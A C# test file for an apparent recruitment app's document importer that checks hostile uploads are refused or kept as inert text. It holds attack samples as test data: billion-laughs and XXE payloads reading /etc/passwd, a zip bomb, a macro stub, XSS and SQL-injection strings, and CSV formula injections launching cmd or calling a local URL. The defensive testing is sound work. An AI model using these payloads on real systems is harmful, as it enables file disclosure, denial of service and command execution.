using System.Diagnostics;
using System.Text;
using Interviewing.Application.Identity;
using Interviewing.Application.Import;
using Interviewing.Application.Shared;
using Interviewing.Infrastructure;
using Interviewing.Testing;
using Microsoft.EntityFrameworkCore;

namespace Interviewing.Slices.Tests.Import;

public class HostileFileTests
{
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static readonly byte[] Compound = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

    private static byte[] Noise(int length)
    {
        var bytes = new byte[length];
        new Random(11).NextBytes(bytes);
        return bytes;
    }

    private static string Wide(int columns) => $"<worksheet xmlns=\"x\"><sheetData><row r=\"1\">{string.Concat(Enumerable.Range(0, columns).Select(c => $"<c r=\"{Office.Letters(c)}1\"><v>{c}</v></c>"))}</row></sheetData></worksheet>";

    // Entities that multiply ninefold at each step.
    private const string Laughs = "<!DOCTYPE lolz [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>";

    // Made when its test runs: some are large.
    private static readonly (string Name, string Code, Func<byte[]> Bytes)[] Files =
    [
        ("leeg.txt", "import.empty", () => []),
        ("leeg.docx", "import.empty", () => []),
        ("witregels.csv", "import.empty", () => "\r\n \r\n"u8.ToArray()),
        ("plaatje.txt", "import.binary", () => Noise(4000)),
        ("plaatje.docx", "import.binary", () => Noise(4000)),
        ("ding.pdf", "import.binary", () => Noise(4000)),
        ("beeld.jpg", "import.binary", () => [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. Noise(4000)]),
        ("notitie.docx", "import.wrong-extension", () => "Gewoon tekst."u8.ToArray()),
        ("notitie.pdf", "import.wrong-extension", () => "Gewoon tekst."u8.ToArray()),
        ("brief.txt", "import.wrong-extension", () => Office.Docx(Office.P("Dag"))),
        ("brief.xlsx", "import.wrong-extension", () => Office.Docx(Office.P("Dag"))),
        ("tabel.docx", "import.wrong-extension", () => Office.Xlsx(["a", "b"])),
        ("folder.md", "import.wrong-extension", () => Office.Pdf("Dag")),
        ("brief.docm", "import.macros", () => Office.Docx(Office.P("Dag"))),
        ("brief.docx", "import.macros", () => Office.DocxOf($"<w:document {W}/>", ("word/vbaProject.bin", "Sub AutoOpen()"))),
        ("tabel.xlsm", "import.macros", () => Office.Xlsx(["a", "b"])),
        ("geheim.docx", "import.locked", () => [.. Compound, .. Noise(600), .. Encoding.Unicode.GetBytes("EncryptedPackage"), .. Noise(600)]),
        ("oud.doc", "import.old-office", () => [.. Compound, .. Noise(600)]),
        ("brief.rtf", "import.kind-unknown", () => "{\\rtf1 Dag}"u8.ToArray()),
        ("archief.zip", "import.kind-unknown", () => Office.Zip(("lees.txt", "Dag"))),
        ("tekst.odt", "import.kind-unknown", () => Office.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>"))),
        ("half.docx", "import.damaged", () => Office.Docx(Office.P("Een zin.")).AsSpan(0, 400).ToArray()),
        ("half.xlsx", "import.damaged", () => Office.Xlsx(["a", "b"])[..^40]),
        ("half.pdf", "import.damaged", () => Office.Pdf("Dag")[..30]),
        ("stuk.docx", "import.damaged", () => Office.DocxOf($"<w:document {W}><w:body><w:p>")),
        ("diep.docx", "import.damaged", () => Office.Docx(string.Concat(Enumerable.Repeat("<w:tbl><w:tr><w:tc>", 200)) + Office.P("diep") + string.Concat(Enumerable.Repeat("</w:tc></w:tr></w:tbl>", 200)))),
        ("lach.docx", "import.forbidden-xml", () => Office.DocxOf($"{Laughs}<w:document {W}><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>")),
        ("buiten.docx", "import.forbidden-xml", () => Office.DocxOf($"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document {W}><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>")),
        ("buiten.xlsx", "import.forbidden-xml", () => Office.XlsxOf([("s1", "Blad", Office.Sheet([["a"]]))], "<!DOCTYPE x SYSTEM \"http://127.0.0.1:1/x.dtd\"><sst/>")),
        ("bom.docx", "import.too-much-inside", () => Office.Bomb("word/document.xml", $"<w:document {W}><w:body><w:p><w:r><w:t>", "</w:t></w:r></w:p></w:body></w:document>", 100)),
        ("breed.xlsx", "import.too-many-columns", () => Office.XlsxOf([("s1", "Blad", Wide(100_000))])),
        ("breed.csv", "import.too-many-columns", () => Encoding.UTF8.GetBytes(string.Join(';', Enumerable.Range(0, 100_000)) + "\na;b\n")),
        ("ver.xlsx", "import.too-many-rows", () => Office.XlsxOf([("s1", "Blad", "<worksheet xmlns=\"x\"><sheetData><row r=\"1048576\"><c><v>1</v></c></row></sheetData></worksheet>")])),
        ("stapel.xlsx", "import.too-many-sheets", () => Office.XlsxOf([.. Enumerable.Range(0, 60).Select(i => ($"s{i}", $"Blad {i}", Office.Sheet([["a"]])))])),
        ("echo.xlsx", "import.too-much-text", () => Office.XlsxOf([("s1", "Blad", $"<worksheet xmlns=\"x\"><sheetData>{string.Concat(Enumerable.Repeat("<row><c t=\"s\"><v>0</v></c></row>", 5000))}</sheetData></worksheet>")], $"<sst><si><t>{new string('a', 100_000)}</t></si></sst>")),
        ("beeld.pdf", "import.pdf-no-text", () => Office.Pdf("")),
    ];

    public static TheoryData<string> Names => [.. Files.Select(file => $"{file.Name} {file.Code}")];

    [Theory, MemberData(nameof(Names))]
    public void Each_gets_one_refusal_in_bounded_time_and_memory(string which)
    {
        var (name, code, make) = Files.Single(file => $"{file.Name} {file.Code}" == which);
        var bytes = make();
        var before = GC.GetTotalAllocatedBytes(precise: true);
        var clock = Stopwatch.StartNew();
        var refusal = Should.Throw<Refusal>(() => Readers.Read(name, bytes));
        refusal.Reasons.ShouldHaveSingleItem().Code.ShouldBe(code);
        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
        (GC.GetTotalAllocatedBytes(precise: true) - before).ShouldBeLessThan(1_000_000_000);
        foreach (var language in new[] { "nl", "en", "fr" })
            new Web.Shell.Words(strict: true).In(language, "refusal." + code, [.. refusal.Reasons[0].Args]).ShouldNotContain("{");
    }

    [Theory, OnBothDatabases]
    public async Task Nothing_of_them_is_stored(Database database)
    {
        await using var house = await House.On(database);
        var who = await house.Someone(Role.Recruiter);
        foreach (var (name, code, make) in Files) (await house.Refused(new UploadDocument(name, make()), who)).ShouldBe(code);
        (await house.Look(db => db.Set<StoredFile>().CountAsync())).ShouldBe(0);
        (await house.Look(db => db.Set<Draft>().CountAsync())).ShouldBe(0);
    }

    // Room for the sentence and nothing more: no path, no type, no stack.
    private static readonly string[] Internals = ["Exception", "System.", "/tmp", "   at "];

    [Fact]
    public void Each_is_told_in_one_sentence_or_two_without_the_inside_of_the_machine()
    {
        foreach (var (code, language) in Files.Select(f => f.Code).Distinct().SelectMany(code => new[] { "nl", "en", "fr" }.Select(language => (code, language))))
        {
            var sentence = new Web.Shell.Words(strict: true).In(language, "refusal." + code, [".a", ".b"]);
            sentence.Length.ShouldBeInRange(15, 240, code);
            sentence.ShouldEndWith(".");
            foreach (var inside in Internals) sentence.ShouldNotContain(inside);
        }
    }

    [Fact]
    public void A_recipe_scripts_and_sql_are_text_like_any_other()
    {
        var record = Readers.Read("x.docx", Documents.WordOf(Documents.Ufo.Replace("Nakijken van machines", "<script>alert(1)</script>'; DROP TABLE People; --", StringComparison.Ordinal)));
        record.JobProfiles[0].ResultAreas[0].Activities[0].Text.ShouldBe("<script>alert(1)</script>'; DROP TABLE People; --");
        Readers.Read("taart.docx", Office.Docx(Office.Heading("Appeltaart"), Office.Bullet("6 appels"), Office.P("Bak een uur."))).DocumentKind.ShouldBe(DocumentKind.Unrecognised);
    }

    [Fact]
    public void Formulas_are_words_in_a_csv_and_their_last_result_in_a_workbook_and_neither_is_ever_worked_out()
    {
        const string formula = "=HYPERLINK(\"http://127.0.0.1:1/?\"&A1;\"klik\")", command = "@SUM(1+1)*cmd|' /C calc'!A0";
        var csv = Readers.Read("a.csv", Encoding.UTF8.GetBytes($"Competentie;Definitie;Gedrag\nRust;\"{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\";{command}\n;;+31 20\n"));
        var competency = csv.Competencies.ShouldHaveSingleItem();
        competency.Definition!.Text.ShouldBe(formula);
        competency.Indicators.Select(i => i.Text).ShouldContain(command);
        var sheet = "<worksheet xmlns=\"x\"><sheetData><row><c t=\"str\"><v>Competentie</v></c><c t=\"str\"><v>Definitie</v></c></row><row><c t=\"str\"><v>Rust</v></c><c t=\"str\"><f>WEBSERVICE(\"http://127.0.0.1:1\")</f><v>Blijft kalm.</v></c></row></sheetData></worksheet>";
        Readers.Read("a.xlsx", Office.XlsxOf([("s1", "Blad", sheet)])).Competencies.ShouldHaveSingleItem().Definition!.Text.ShouldBe("Blijft kalm.");
    }

    [Fact]
    public void Five_megabytes_of_one_bullet_in_word_are_read_once_and_counted()
    {
        var bullet = Office.Bullet("Vraagt door tot het duidelijk is.");
        var many = 5_000_000 / 36;
        var bytes = Office.Docx("Competenties\nOmschrijving\nLuisteren naar mensen.\nGedragsindicatoren".Split('\n').Select(line => Office.P(line)).Append(new StringBuilder().Insert(0, bullet, many).ToString()).Append(Office.P("Toetsvragen")).Append(Office.Bullet("Hoe?")).ToArray());
        var clock = Stopwatch.StartNew();
        var record = Readers.Read("lang.docx", bytes);
        record.Competencies[0].Indicators.ShouldHaveSingleItem();
        record.Competencies[0].DuplicatesDropped.Indicators.ShouldBe(many - 1);
        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
    }

    [Fact]
    public void A_part_that_lies_about_its_size_is_still_stopped()
    {
        var bytes = Office.Bomb("word/document.xml", $"<w:document {W}><w:body><w:p><w:r><w:t>", "</w:t></w:r></w:p></w:body></w:document>", 3);
        Should.Throw<Refusal>(() => Readers.With(("MaxUnpackedBytes", "2000000")).Read("bom.docx", bytes)).Reasons[0].ShouldSatisfyAllConditions(r => r.Code.ShouldBe("import.too-much-inside"), r => r.Args.ShouldBe([1]));
        // The size of the part stands in the directory at the end of the file, four bytes after its packed size.
        var at = bytes.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 24;
        BitConverter.TryWriteBytes(bytes.AsSpan(at), 1000).ShouldBeTrue();
        Should.Throw<Refusal>(() => Readers.With(("MaxUnpackedBytes", "2000000")).Read("bom.docx", bytes)).Reasons[0].Code.ShouldBeOneOf("import.too-much-inside", "import.damaged");
    }

    [Fact]
    public void Limits_are_settings_and_nonsense_is_told_at_once()
    {
        Should.Throw<Refusal>(() => Readers.With(("MaxBytes", "1048576")).Read("a.txt", new byte[1_100_000])).Reasons[0].ShouldSatisfyAllConditions(r => r.Code.ShouldBe("import.too-large"), r => r.Args.ShouldBe([1]));
        Should.Throw<Refusal>(() => Readers.With(("MaxColumns", "1")).Read("a.csv", "a;b\n1;2\n"u8.ToArray())).Reasons[0].Code.ShouldBe("import.too-many-columns");
        Should.Throw<InvalidSetting>(() => Readers.With(("MaxRows", "0"))).Message.ShouldContain("Import:MaxRows");
        Should.Throw<InvalidSetting>(() => Readers.With(("MaxRows", "veel"))).Message.ShouldContain("Import:MaxRows");
    }

    [Fact]
    public void Every_limit_stands_in_the_readme_with_the_value_that_it_has()
    {
        var rows = ReadMe().Split('\n').Where(line => line.StartsWith("| `Import__", StringComparison.Ordinal)).Select(line => line.Split('|')).ToList();
        var told = rows.SelectMany(row => Ticked(row[1]).Zip(Ticked(row[3]))).Where(pair => pair.First.StartsWith("Import__", StringComparison.Ordinal)).ToDictionary(pair => pair.First["Import__".Length..], pair => pair.Second);
        foreach (var limit in typeof(ImportLimits).GetProperties().Where(p => p.GetMethod!.IsPublic && !p.GetMethod.IsStatic && p.Name != "EqualityContract"))
            told.GetValueOrDefault(limit.Name).ShouldBe(Convert.ToString(limit.GetValue(ImportLimits.Default), System.Globalization.CultureInfo.InvariantCulture), limit.Name);

        static IEnumerable<string> Ticked(string cell) => cell.Split('`').Where((_, i) => i % 2 == 1);

        static string ReadMe()
        {
            for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
                if (File.Exists(Path.Combine(folder.FullName, "Interview.sln"))) return File.ReadAllText(Path.Combine(folder.FullName, "README.md"));
            throw new DirectoryNotFoundException("Interview.sln is not above the tests.");
        }
    }

    [Fact]
    public void Without_the_program_a_pdf_says_what_to_install() =>
        Should.Throw<Refusal>(() => Readers.With(("PdfToText", "/nowhere/pdftotext")).Read("a.pdf", Office.Pdf("Dag"))).Reasons[0].Code.ShouldBe("import.pdf-tool");

    [Fact]
    public void A_program_that_hangs_or_talks_too_much_is_ended()
    {
        var folder = Directory.CreateTempSubdirectory("interview-pdf-").FullName;
        string Script(string name, string body)
        {
            var path = Path.Combine(folder, name);
            File.WriteAllText(path, "#!/bin/sh\n" + body + "\n");
            if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserExecute | UnixFileMode.UserWrite);
            return path;
        }
        var clock = Stopwatch.StartNew();
        Should.Throw<Refusal>(() => Readers.With(("PdfToText", Script("hangs", "exec sleep 60")), ("PdfSeconds", "1")).Read("a.pdf", Office.Pdf("Dag"))).Reasons[0].ShouldSatisfyAllConditions(r => r.Code.ShouldBe("import.too-slow"), r => r.Args.ShouldBe([1]));
        Should.Throw<Refusal>(() => Readers.With(("PdfToText", Script("talks", "exec yes tekst")), ("MaxCharacters", "100000")).Read("a.pdf", Office.Pdf("Dag"))).Reasons[0].Code.ShouldBe("import.too-much-text");
        Should.Throw<Refusal>(() => Readers.With(("PdfToText", Script("locked", "echo 'Command Line Error: Incorrect password' >&2; exit 1"))).Read("a.pdf", Office.Pdf("Dag"))).Reasons[0].Code.ShouldBe("import.locked");
        clock.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
        Directory.Delete(folder, recursive: true);
    }
}
